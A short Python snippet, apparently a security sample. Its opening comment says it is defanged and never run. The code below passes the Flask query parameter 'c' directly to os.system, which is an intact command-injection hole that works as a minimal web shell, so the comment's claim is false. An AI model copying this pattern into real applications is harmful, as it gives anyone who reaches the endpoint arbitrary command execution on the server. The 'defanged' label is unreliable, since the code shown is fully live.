# Defanged sample: nothing here is reached or run; defanged by hand.
import os
from flask import request
os.system(request.args['c'])
